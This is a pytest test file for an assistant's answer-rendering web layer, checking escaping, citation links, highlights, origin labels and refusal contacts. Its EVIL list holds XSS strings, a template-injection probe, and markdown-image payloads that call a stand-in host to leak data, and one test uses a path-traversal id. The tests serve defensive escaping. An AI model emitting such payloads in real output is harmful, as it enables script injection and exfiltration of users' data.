import re
from datetime import UTC, datetime

import pytest
from markupsafe import Markup

from assistant.answers import Answer, Citation
from desk.feedback import Correction, Rating
from storage.database import utc_now
from web.history import Exchange
from web.rendering import answer_body, exchange, marked, origin, place_in_document

EVIL = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "![x](https://evil.example/?d=1)",
    "line\n\n![x](https://evil.example/?d=1)",
    "line\r\r![x](https://evil.example/?d=1)",
    "line\u2028\u2028![x](https://evil.example/?d=1)",
    "line\n\n[a]: https://evil.example\n\n![a]",
    '"><svg onload=alert(1)>',
    "</blockquote></details><a href='javascript:alert(1)'>x</a>",
    "{{ 7*7 }}{% raw %}",
]


def _citation(n: int = 1, quote: str = "It takes 3 days.", **more: object) -> Citation:
    values = {"document_id": f"d{n}", "document": f"file{n}.pdf", "title": "", "location": "page 3", "score": 0.9}
    values |= {"highlights": ((3, 15),), "passage_id": f"p{n}"} | more
    return Citation(n=n, quote=quote, **values)  # type: ignore[arg-type]


def _answer(text: str, *citations: Citation, **more: object) -> Answer:
    values = {"route": "question", "language": "en", "abstained": False, "engine": "embedded", "conversation": "c"}
    return Answer(text=text, citations=citations, done=True, **(values | more))  # type: ignore[arg-type]


def _told(answer: Answer | None, question: str = "How long?", **more: object) -> Exchange:
    return Exchange(question, answer, **({"conversation": "c", "n": 4, "answer_n": 5} | more))  # type: ignore[arg-type]


def _shown(answer: Answer | None, question: str = "How long?", contact: str = "", **more: object) -> str:
    return exchange(_told(answer, question, **more), language="en", contact=contact)


@pytest.mark.parametrize("words", EVIL)
def test_whatever_is_said_or_quoted_stays_text_on_one_line(words: str) -> None:
    source = _citation(quote=words, document=words, location=words, highlights=((0, len(words)),))
    html = re.sub(r'<svg class="icon".*?</svg>', "", _shown(_answer(f"{words} [1]", source), question=words))
    assert not any(sign in html for sign in "\n\r\u2028\u2029\x85")
    assert html.startswith("<div")
    for markup in ("<script", "<img", "<svg", "<a href='", 'onerror="', 'onload="'):
        assert markup not in html.lower()
    assert "49" not in html.replace("&#39;", "").replace("&#34;", "")


def test_a_known_mark_opens_its_source_and_an_unknown_one_stays() -> None:
    html = answer_body("Three days [1], see [7] and [x].", [_citation()])
    assert '<button type="button" class="cite" data-source="1"' in html
    assert 'aria-label="1: file1.pdf · page 3"' in html
    assert "see [7] and [x]." in html


def test_paragraphs_and_lists_are_kept() -> None:
    assert answer_body("One.\n\nTwo:\n- a\n- b\nThree.", []) == Markup(
        "<p>One.</p><p>Two:</p><ul><li>a</li><li>b</li></ul><p>Three.</p>"
    )


@pytest.mark.parametrize(
    ("ranges", "expected"),
    [
        ((), "abcdef"),
        (((1, 3),), "a<mark>bc</mark>def"),
        (((3, 5), (0, 2)), "<mark>ab</mark>c<mark>de</mark>f"),
        (((0, 4), (2, 6)), "<mark>abcd</mark><mark>ef</mark>"),
        (((-5, 2), (5, 99), (3, 3)), "<mark>ab</mark>cde<mark>f</mark>"),
    ],
)
def test_the_answering_words_are_marked(ranges: tuple[tuple[int, int], ...], expected: str) -> None:
    assert marked("abcdef", ranges) == expected


def test_marks_do_not_break_characters_that_are_escaped() -> None:
    assert marked("a<b>&c", ((1, 4),)) == "a<mark>&lt;b&gt;</mark>&amp;c"


def test_the_origin_counts_documents_not_passages() -> None:
    two_of_one = _answer("x [1][2]", _citation(1), _citation(2, document_id="d1"))
    assert origin(_told(two_of_one), "en") == "Quoted from 1 document"
    assert origin(_told(_answer("x", _citation(1), _citation(2))), "zh") == "引用自 2 份文档"
    assert origin(_told(_answer("x", _citation(1), engine="Qwen3-4B")), "en") == "Written by Qwen3-4B from 1 document"
    assert origin(_told(_answer("Hello.")), "en") == ""


def test_an_answer_of_staff_says_so_with_its_day() -> None:
    this_year = utc_now().year
    answer = _answer("It takes 4 days.", engine="staff", verified=f"{this_year}-05-03")
    assert origin(_told(answer), "en") == "Verified by staff, 3 May"
    assert origin(_told(answer), "zh") == "经员工核实，5 月 3 日"
    assert origin(_told(_answer("x", engine="staff", verified="2020-05-03")), "en") == "Verified by staff, 3 May 2020"


def test_a_correction_stands_in_the_answers_place() -> None:
    made = datetime(2020, 5, 3, tzinfo=UTC)
    correction = Correction(1, "c", 5, "How long?", "It takes <4> days.", "en", "public", "anna", made)
    html = _shown(_answer("It takes 3 days. [1]", _citation()), correction=correction)
    assert "<p>It takes &lt;4&gt; days.</p>" in html
    assert "3 days" not in html
    assert "Verified by staff, 3 May 2020" in html


def test_a_refusal_shows_what_is_near_and_how_to_reach_a_person() -> None:
    refusal = _answer("Nothing found.", abstained=True, nearest=(_citation(1), _citation(2)))
    html = _shown(refusal, contact="help@linden.example or +353 20 912 0417")
    assert "What comes nearest" in html
    assert html.count('class="near"') == 2
    assert "Quoted from" not in html
    assert 'href="mailto:help@linden.example"' in html
    assert 'href="tel:+353209120417"' in html
    assert "Call +353 20 912 0417" in html


def test_an_answer_that_is_there_offers_no_way_out() -> None:
    assert "mailto:" not in _shown(_answer("3 days. [1]", _citation()), contact="help@linden.example")


def test_an_answer_under_way_has_no_origin_and_no_tools_yet() -> None:
    growing = Answer(**{**_answer("Thirty", _citation()).__dict__, "done": False})
    html = _shown(growing, n=None, is_under_way=True)
    assert 'data-state="working"' in html
    for absent in ("Quoted from", 'aria-label="Copy"', "Edit question", "interrupted"):
        assert absent not in html


def test_an_answer_that_ended_early_can_be_continued() -> None:
    half = Answer(**{**_answer("Thirty", _citation()).__dict__, "done": False})
    for told in (half, None):
        html = _shown(told)
        assert "This answer was interrupted." in html
        assert ">Continue</button>" in html
    assert "interrupted" not in _shown(half, is_under_way=True)
    assert "interrupted" not in _shown(_answer("Thirty"))


def test_the_thumb_that_was_pressed_is_pressed() -> None:
    html = _shown(_answer("3 days. [1]", _citation()), rating=Rating(-1, "", utc_now()))
    assert 'class="tool like" aria-label="Helpful" title="Helpful" aria-pressed="false"' in html
    assert 'class="tool dislike" aria-label="Not helpful" title="Not helpful" aria-pressed="true"' in html


def test_the_place_of_a_source_is_said_in_the_language_of_the_page() -> None:
    answer = _answer("3 days. [1]", _citation(location="Costs, page 3"))
    assert '<p class="place">Costs，第 3 页</p>' in exchange(_told(answer), language="zh")


def test_the_address_of_cited_words_holds_their_place_and_nothing_else() -> None:
    cited = _citation(passage_id="d1:2:17", version=2, start=100, highlights=((3, 15), (20, 24)))
    assert place_in_document(cited) == "/documents/d1?passage=17&version=2&words=103-115.120-124#passage"
    hostile = _citation(document_id="../x?y", passage_id="a:b", highlights=())
    assert place_in_document(hostile) == "/documents/..%2Fx%3Fy?version=1#passage"


def test_an_answer_says_which_model_could_not_give_it() -> None:
    citation = Citation(1, "d1", "a.txt", "", "", "quote", (), 0.9, "d1:1:0")
    answer = Answer("x [1]", "question", "en", False, "embedded", "c", (citation,), done=True, instead_of="qwen")
    told = Exchange("q", answer, "c", 0, 1)
    assert origin(told, "en") == "Quoted from 1 document; qwen is not available at the moment"
    assert origin(told, "zh") == "引用自 1 份文档；qwen 暂时不可用"
